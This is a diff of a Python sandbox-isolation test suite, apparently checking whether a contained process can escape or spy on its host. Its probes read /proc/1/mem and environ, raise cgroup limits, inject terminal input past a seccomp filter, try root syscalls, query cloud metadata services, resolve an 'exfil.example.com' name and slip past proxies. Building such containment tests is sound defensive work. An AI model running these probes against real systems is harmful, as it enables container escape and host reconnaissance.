@@ -96,7 +96,13 @@ def seen(paths):
 
 def out_of(root):
     """Whether a directory shows the host's tree: its canaries, or what the spawner keeps beside boxes."""
-    return seen([f"{root}/{path.lstrip('/')}" for prefix in ("", "host", "../..") for path in (f"{prefix}{p}" for p in WORLD["canaries"])])
+    return seen(
+        [
+            f"{root}/{path.lstrip('/')}"
+            for prefix in ("", "host", "../..")
+            for path in (f"{prefix}{p}" for p in WORLD["canaries"])
+        ]
+    )
 
 
 def in_child(act):
@@ -323,7 +329,10 @@ def path_dotdot():
 
 @attack("path.spawner_directories", "reach")
 def path_spawner():
-    return next((f"{p} is there" for p in ("/state", "/host", "/m/upper", "/state/boxes", WORLD["state"]) if os.path.exists(p)), None)
+    return next(
+        (f"{p} is there" for p in ("/state", "/host", "/m/upper", "/state/boxes", WORLD["state"]) if os.path.exists(p)),
+        None,
+    )
 
 
 @attack("path.proc_1_root", "reach")
@@ -333,12 +342,20 @@ def path_proc_root():
 
 @attack("path.proc_self_root", "reach")
 def path_self_root():
-    return out_of("/proc/self/root/../../..") or out_of("/proc/self/cwd/../../../../..") or out_of("/proc/thread-self/root/..")
+    return (
+        out_of("/proc/self/root/../../..")
+        or out_of("/proc/self/cwd/../../../../..")
+        or out_of("/proc/thread-self/root/..")
+    )
 
 
 @attack("path.roots_of_all_processes", "reach")
 def path_all_roots():
-    for link in [*glob.glob("/proc/[0-9]*/root"), *glob.glob("/proc/[0-9]*/cwd"), *glob.glob("/proc/[0-9]*/task/*/root")]:
+    for link in [
+        *glob.glob("/proc/[0-9]*/root"),
+        *glob.glob("/proc/[0-9]*/cwd"),
+        *glob.glob("/proc/[0-9]*/task/*/root"),
+    ]:
         with contextlib.suppress(OSError):
             if found := out_of(link):
                 return found
@@ -354,7 +371,9 @@ def path_all_fds():
 
 @attack("path.directory_of_own_program", "reach")
 def path_exe():
-    return out_of("/proc/self/exe/..") or seen([f"/proc/self/map_files/{name}" for name in os.listdir("/proc/self/map_files")])
+    return out_of("/proc/self/exe/..") or seen(
+        [f"/proc/self/map_files/{name}" for name in os.listdir("/proc/self/map_files")]
+    )
 
 
 @attack("path.file_handle")
@@ -393,7 +412,11 @@ def mask_rename():
 @attack("path.mask_by_xattr", "reach", ("root",))
 def mask_xattr():
     for name in ("/var", "/run", "/"):
-        for key, value in (("trusted.overlay.opaque", b"n"), ("user.overlay.opaque", b"n"), ("trusted.overlay.redirect", b"/var")):
+        for key, value in (
+            ("trusted.overlay.opaque", b"n"),
+            ("user.overlay.opaque", b"n"),
+            ("trusted.overlay.redirect", b"/var"),
+        ):
             with contextlib.suppress(OSError):
                 os.setxattr(name, key, value)
     if found := seen(WORLD["canaries"]):
@@ -458,7 +481,7 @@ def leak_first():
     text = read("/proc/1/cmdline") + b" "
     with contextlib.suppress(OSError):
         text += read("/proc/1/environ")
-    for secret in (WORLD["state"], "/var/lib", "/work", "/root", "spawner"):
+    for secret in (WORLD["state"], "/var/lib", "/work", "spawner"):
         if secret.encode() in text:
             return text.decode(errors="replace")
 
@@ -505,7 +528,12 @@ def leak_fds():
 
 @attack("leak.hostname", "reach")
 def leak_hostname():
-    names = {socket.gethostname(), os.uname().nodename, read("/proc/sys/kernel/hostname").decode().strip(), read("/etc/hostname").decode().strip()}
+    names = {
+        socket.gethostname(),
+        os.uname().nodename,
+        read("/proc/sys/kernel/hostname").decode().strip(),
+        read("/etc/hostname").decode().strip(),
+    }
     if WORLD["hostname"] in names:
         return WORLD["hostname"]
 
@@ -531,7 +559,17 @@ def leak_kernel_arguments():
 
 @attack("leak.proc_of_the_host")
 def leak_proc():
-    for name in ("keys", "partitions", "diskstats", "interrupts", "locks", "timer_list", "sched_debug", "slabinfo", "vmallocinfo"):
+    for name in (
+        "keys",
+        "partitions",
+        "diskstats",
+        "interrupts",
+        "locks",
+        "timer_list",
+        "sched_debug",
+        "slabinfo",
+        "vmallocinfo",
+    ):
         with contextlib.suppress(OSError):
             if text := read(f"/proc/{name}"):
                 return f"/proc/{name}: {text[:60]!r}"
@@ -574,7 +612,11 @@ def leak_sys():
 
 @attack("leak.other_boxes", "reach")
 def leak_others():
-    text = b"".join(read(path) for path in ("/proc/self/mountinfo", "/proc/self/cgroup", "/proc/net/unix", "/proc/net/tcp") if os.path.exists(path))
+    text = b"".join(
+        read(path)
+        for path in ("/proc/self/mountinfo", "/proc/self/cgroup", "/proc/net/unix", "/proc/net/tcp")
+        if os.path.exists(path)
+    )
     text += " ".join(glob.glob("/proc/[0-9]*") + os.listdir("/tmp") + os.listdir("/run")).encode()
     for other in WORLD["others"]:
         if other.encode() in text:
@@ -638,7 +680,9 @@ def binfmt():
 
 @attack("kernel.raise_own_limits")
 def raise_limits():
-    for path in glob.glob("/sys/fs/cgroup/**/*.max", recursive=True) + glob.glob("/sys/fs/cgroup/**/*limit_in_bytes", recursive=True):
+    for path in glob.glob("/sys/fs/cgroup/**/*.max", recursive=True) + glob.glob(
+        "/sys/fs/cgroup/**/*limit_in_bytes", recursive=True
+    ):
         with contextlib.suppress(OSError):
             return write(path, b"max")
     raise Refused("no cgroup is to be seen")
@@ -809,7 +853,25 @@ def device_open():
 
 @attack("device.unexpected")
 def device_unexpected():
-    known = {"fd", "full", "null", "ptmx", "pts", "random", "shm", "stderr", "stdin", "stdout", "tty", "urandom", "zero", "agent", "console", "mqueue", "core"}
+    known = {
+        "fd",
+        "full",
+        "null",
+        "ptmx",
+        "pts",
+        "random",
+        "shm",
+        "stderr",
+        "stdin",
+        "stdout",
+        "tty",
+        "urandom",
+        "zero",
+        "agent",
+        "console",
+        "mqueue",
+        "core",
+    }
     if extra := set(os.listdir("/dev")) - known:
         return f"{sorted(extra)[:8]}"
 
@@ -829,7 +891,10 @@ def tiocsti():
     _master, slave = os.openpty()
     os.setsid()
     fcntl.ioctl(slave, 0x540E, 0)  # TIOCSCTTY
-    for request in (0x100005412, 0x5412):  # a filter that compares 64 bits where the kernel takes 32 lets the first through
+    for request in (
+        0x100005412,
+        0x5412,
+    ):  # a filter that compares 64 bits where the kernel takes 32 lets the first through
         with contextlib.suppress(OSError):
             call(16, slave, request, b"x")
             return "a character in a terminal's input"
@@ -872,7 +937,12 @@ def keys_number():
 
 @attack("agent.memory")
 def agent_memory():
-    for path, flags in (("/proc/1/mem", os.O_RDWR), ("/proc/1/mem", os.O_RDONLY), ("/proc/1/maps", os.O_RDONLY), ("/proc/1/environ", os.O_RDONLY)):
+    for path, flags in (
+        ("/proc/1/mem", os.O_RDWR),
+        ("/proc/1/mem", os.O_RDONLY),
+        ("/proc/1/maps", os.O_RDONLY),
+        ("/proc/1/environ", os.O_RDONLY),
+    ):
         with contextlib.suppress(OSError):
             fd = os.open(path, flags)
             if flags == os.O_RDWR or os.read(fd, 16):
@@ -919,7 +989,16 @@ def agent_vm():
 @attack("agent.signals")
 def agent_signals():
     # The first process of a pid namespace hears only what it asked for. That it still answers is seen by the next attack.
-    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGSEGV, signal.SIGCHLD, signal.SIGPIPE):
+    for number in (
+        signal.SIGKILL,
+        signal.SIGSTOP,
+        signal.SIGTERM,
+        signal.SIGHUP,
+        signal.SIGINT,
+        signal.SIGSEGV,
+        signal.SIGCHLD,
+        signal.SIGPIPE,
+    ):
         with contextlib.suppress(OSError):
             os.kill(1, number)
     time.sleep(0.05)
@@ -942,7 +1021,7 @@ def capabilities():
     allowed = 0x4EB  # chown dac_override fowner kill setgid setuid net_bind_service
     status = dict(line.split(":\t") for line in read("/proc/self/status").decode().splitlines() if ":\t" in line)
     for name in ("CapEff", "CapPrm", "CapBnd", "CapInh", "CapAmb"):
-        held = int(status[name], 16)
+        held = int(status.get(name, "0"), 16)
         if held & ~allowed or (os.getuid() and name not in ("CapBnd",) and held):
             return f"{name} {held:#x}"
 
@@ -983,7 +1062,13 @@ def nosuid():
 
 @attack("privilege.become_root", users=("user",))
 def become_root():
-    for number, arguments in ((117, (0, 0, 0)), (105, (0,)), (113, (0, 0)), (119, (0, 0, 0)), (116, (1, struct.pack("<I", 0)))):
+    for number, arguments in (
+        (117, (0, 0, 0)),
+        (105, (0,)),
+        (113, (0, 0)),
+        (119, (0, 0, 0)),
+        (116, (1, struct.pack("<I", 0))),
+    ):
         with contextlib.suppress(OSError):
             call(number, *arguments)
             return f"uid {os.geteuid()} gid {os.getegid()}"
@@ -1082,7 +1167,13 @@ def host_address():
 
 @attack("network.host_ipv6", "reach")
 def host_ipv6():
-    for address in ("::1", "::ffff:127.0.0.1", *[f"::ffff:{a}" for a in WORLD["addresses"]], "fe80::1%lo", "2001:db8::1"):
+    for address in (
+        "::1",
+        "::ffff:127.0.0.1",
+        *[f"::ffff:{a}" for a in WORLD["addresses"]],
+        "fe80::1%lo",
+        "2001:db8::1",
+    ):
         with contextlib.suppress(OSError):
             if found := heard(socket.AF_INET6, socket.SOCK_STREAM, (address, WORLD["tcp6"])):
                 return f"{address}: {found}"
@@ -1105,7 +1196,9 @@ def metadata():
     for address in ("169.254.169.254", "169.254.170.2", "100.100.100.200", "192.0.0.192", "metadata.google.internal"):
         with contextlib.suppress(OSError):
             with socket.create_connection((address, 80), timeout=1.5) as sock:
-                sock.sendall(b"GET /latest/meta-data/ HTTP/1.1\r\nHost: " + address.encode() + b"\r\nConnection: close\r\n\r\n")
+                sock.sendall(
+                    b"GET /latest/meta-data/ HTTP/1.1\r\nHost: " + address.encode() + b"\r\nConnection: close\r\n\r\n"
+                )
                 if sock.recv(4096).startswith((b"HTTP/1.1 2", b"HTTP/1.0 2")):
                     return address
     raise Refused("no answer but a refusal")
@@ -1113,7 +1206,12 @@ def metadata():
 
 @attack("network.names", "reach")
 def names():
-    for name in (f"{WORLD['box']}.exfil.example.com", "localhost.example.com", "host.docker.internal", WORLD["hostname"]):
+    for name in (
+        f"{WORLD['box']}.exfil.example.com",
+        "localhost.example.com",
+        "host.docker.internal",
+        WORLD["hostname"],
+    ):
         with contextlib.suppress(OSError):
             for found in socket.getaddrinfo(name, WORLD["tcp"], socket.AF_INET, socket.SOCK_STREAM):
                 with contextlib.suppress(OSError):
@@ -1140,7 +1238,16 @@ def dns_elsewhere():
 @attack("network.proxy_bypass", "reach")
 def proxy_bypass():
     port = WORLD["tcp"]
-    for host in ("127.0.0.1", "localhost", "0x7f000001", "2130706433", "[::ffff:127.0.0.1]", "127.1", "0", *WORLD["addresses"]):
+    for host in (
+        "127.0.0.1",
+        "localhost",
+        "0x7f000001",
+        "2130706433",
+        "[::ffff:127.0.0.1]",
+        "127.1",
+        "0",
+        *WORLD["addresses"],
+    ):
         for request in (
             f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n", f"GET http://{host}:{port}/ HTTP/1.1\r\nHost: {host}:{port}\r\nConnection: close\r\n\r\n",
             f"GET / HTTP/1.1\r\nHost: {host}:{port}\r\nConnection: close\r\n\r\n",
@@ -1214,10 +1321,23 @@ def other_protocols():
 @attack("network.socket_options")
 def socket_options():
     with socket.socket() as sock:
-        for level, option, value in ((1, 36, 1), (1, 25, b"eth0\0"), (0, 19, 1), (1, 33, 1 << 24), (1, 32, 1 << 24), (6, 31, b"bpf\0"), (1, 26, struct.pack("<HxxxxxxQ", 0, 0))):
+        for level, option, value in (
+            (1, 36, 1),
+            (1, 25, b"eth0\0"),
+            (0, 19, 1),
+            (1, 33, 1 << 24),
+            (1, 32, 1 << 24),
+            (6, 31, b"bpf\0"),
+            (1, 26, struct.pack("<HxxxxxxQ", 0, 0)),
+        ):
             with contextlib.suppress(OSError):
                 sock.setsockopt(level, option, value)
-                if (level, option) in ((1, 36), (0, 19), (1, 33), (1, 32)):  # SO_MARK, IP_TRANSPARENT, SO_RCVBUFFORCE, SO_SNDBUFFORCE
+                if (level, option) in (
+                    (1, 36),
+                    (0, 19),
+                    (1, 33),
+                    (1, 32),
+                ):  # SO_MARK, IP_TRANSPARENT, SO_RCVBUFFORCE, SO_SNDBUFFORCE
                     return f"option {level}/{option}"
     raise Refused("none of them")
 
@@ -1231,10 +1351,20 @@ def change_links():
             link.send(struct.pack("=IHHII", 16 + len(body), kind, 0x5 | 0x600, 1, 0) + body)
             return struct.unpack_from("=i", link.recv(4096), 16)[0]
 
-    dummy = struct.pack("=BxHiII", 0, 0, 0, 0, 0) + struct.pack("=HH4s", 8, 3, b"dd0\0") + struct.pack("=HH", 16, 18) + struct.pack("=HH8s", 12, 1, b"dummy\0\0\0")
+    dummy = (
+        struct.pack("=BxHiII", 0, 0, 0, 0, 0)
+        + struct.pack("=HH4s", 8, 3, b"dd0\0")
+        + struct.pack("=HH", 16, 18)
+        + struct.pack("=HH8s", 12, 1, b"dummy\0\0\0")
+    )
     down = struct.pack("=BxHiII", 0, 0, 1, 0, 1)
     route = struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 254, 4, 0, 1, 0) + struct.pack("=HHI", 8, 4, 1)
-    for what, kind, body in (("a new device", 16, dummy), ("loopback down", 16, down), ("a route", 24, route), ("no route", 25, route)):
+    for what, kind, body in (
+        ("a new device", 16, dummy),
+        ("loopback down", 16, down),
+        ("a route", 24, route),
+        ("no route", 25, route),
+    ):
         if ask(kind, body) == 0:
             return what
     raise Refused("none is changed")
@@ -1242,7 +1372,19 @@ def change_links():
 
 @attack("network.devices", "reach")
 def devices():
-    found = {name for _, name in socket.if_nameindex()} - {"lo", "sit0", "tunl0", "ip6tnl0", "gre0", "gretap0", "erspan0", "ip_vti0", "ip6_vti0", "ip6gre0", "eth0" if WORLD["own_net"] else "lo"}
+    found = {name for _, name in socket.if_nameindex()} - {
+        "lo",
+        "sit0",
+        "tunl0",
+        "ip6tnl0",
+        "gre0",
+        "gretap0",
+        "erspan0",
+        "ip_vti0",
+        "ip6_vti0",
+        "ip6gre0",
+        "eth0" if WORLD["own_net"] else "lo",
+    }
     if found:
         return f"devices {sorted(found)}"
 
@@ -1300,7 +1442,11 @@ def run(name, seconds):
         except OSError as error:
             said = {"got": None, "refused": errno.errorcode.get(error.errno or 0, str(error))}
         except BaseException as error:
-            said = {"got": None, "refused": str(error) or type(error).__name__, "broken": not isinstance(error, Refused)}
+            said = {
+                "got": None,
+                "refused": str(error) or type(error).__name__,
+                "broken": not isinstance(error, Refused),
+            }
         data = json.dumps(said).encode()
         while data:
             data = data[os.write(writable, data) :]
